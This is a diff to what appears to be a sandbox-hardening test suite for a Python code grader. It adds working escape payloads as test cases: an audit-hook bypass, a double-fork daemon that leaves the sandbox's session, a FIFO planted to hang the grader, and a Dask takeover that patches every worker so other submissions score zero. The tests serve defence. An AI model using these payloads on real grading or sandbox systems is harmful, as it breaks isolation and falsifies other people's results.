@@ -89,6 +89,44 @@ INTERRUPT_IN_SAMPLE = LIBRARY.replace("r = random.random()", "raise KeyboardInte
 TIMEOUT = (f"time limit: your code did not finish within {TIME_LIMIT} s (it was running "
            "line 1); look for a loop that never ends")
 
+# The portable box's audit hook reads its module's globals at each event: emptying them
+# turns it off (PEP 578: a hook is no security boundary). At the Linux levels there is
+# no such module in the box, and the kernel refuses instead.
+AUDIT_HOOK_BYPASS = """import sys
+_box = sys.modules.get('grader.sandbox.portable_box')
+if _box is not None:
+    for _name in dir(_box):
+        if _name.endswith('_EVENTS'):
+            setattr(_box, _name, frozenset())
+    _box._inside = lambda *args: True
+"""
+# After the bypass a box running as root can fork (RLIMIT_NPROC binds no root): a daemon
+# that leaves the box's process group and session. Elsewhere the fork is refused.
+DAEMON = AUDIT_HOOK_BYPASS + """import os, sys, time
+def daemon(heartbeat):
+    try:
+        pid = os.fork()
+    except OSError as exc:
+        print(type(exc).__name__)
+        return
+    if pid == 0:
+        os.setsid()
+        if os.fork() == 0:
+            while True:
+                if heartbeat:
+                    with open(heartbeat, 'a') as beat:
+                        beat.write(f'{os.getpid()} {time.time()}\\n')
+                time.sleep(0.1)
+        os._exit(0)
+    os.waitpid(pid, 0)
+    print('DONE')
+"""
+
+
+def daemon_outcome(iso: Iso, paths: dict[str, str]) -> str:
+    return "DONE\n" if iso["level"] == "portable" and os.geteuid() == 0 else "BlockingIOError\n"
+
+
 ATTACKS = [
     Attack("syntax error", "import random\n\nweather = (\n", 0,
            "your file has a syntax error: '(' was never closed (line 3: weather = ()",
@@ -134,6 +172,13 @@ ATTACKS = [
            "        time.sleep(600)\n    os._exit(0)\n", 0,
            "your file tried to start another process or thread (line 2: if os.fork() == 0:); "
            "the grader does not allow that", kind=ErrorKind.FORBIDDEN),
+    Attack("audit hook off, then a double-fork + setsid daemon",
+           DAEMON + "daemon(None)\n" + LIBRARY, 10, None, daemon_outcome),
+    # A FIFO where the grader reads would make it wait for ever (a progress file, a
+    # journal): outside the box it is refused like any other write.
+    Attack("plant a FIFO in OUTDIR", _tries("import os", _try(
+        "os.mkfifo({out!r} + '/progress.json')")), 10, None,
+           lambda iso, paths: f"{refusal_name(iso)}\n"),
     Attack("os._exit", LIBRARY + "import os\nos._exit(3)\n", 0,
            "your code ended its own process (os._exit(3) or similar), so it could not be "
            "checked; remove that call", kind=ErrorKind.EXITED),
@@ -321,6 +366,42 @@ THREAT_PROBE = Attack(
         for row, action in PROBES.items()]),
     10, None)
 ATTACKS += TEXT_ATTACKS + END_ATTACKS + DISK_ATTACKS
+
+
+# The box starts without site-packages (python -S): the attack adds them back.
+SITE_PACKAGES = """import os, sysconfig
+_env = os.path.dirname(os.path.dirname(sys.executable))
+for _base in (_env, sys.prefix):
+    _paths = sysconfig.get_paths(vars={'base': _base, 'platbase': _base})
+    sys.path += [_paths['purelib'], _paths['platlib']]
+"""
+# Run on every Dask worker by the attack below: every later result there scores 0, and
+# its own file's full marks (the forgery passes the client's validation: it is data).
+ZERO_OTHERS = """import json
+import grader.batch.cluster as cluster
+_grade = cluster.GraderPlugin.grade
+def forged(self, exercise_id, filename, data, size):
+    result, info = _grade(self, exercise_id, filename, data, size)
+    forged = json.loads(result)
+    if b'PATCHED THE WORKERS' not in data:
+        forged['score'] = 0.0
+    return json.dumps(forged), info
+cluster.GraderPlugin.grade = forged
+"""
+
+
+def dask_takeover(address: str) -> str:
+    """A submission that turns the audit hook off, joins the Dask cluster at `address`
+    as a client and patches the grading plugin of every worker (then is a solution)."""
+    return AUDIT_HOOK_BYPASS + SITE_PACKAGES + f"""try:
+    from distributed import Client
+    _client = Client({address!r}, timeout=5, set_as_default=False)
+    _client.run(exec, {ZERO_OTHERS!r}, {{}})
+    _client.close()
+    print('PATCHED THE WORKERS')
+except BaseException as exc:
+    print(type(exc).__name__, exc)
+""" + LIBRARY
 
 
 def attack(name: str) -> Attack:
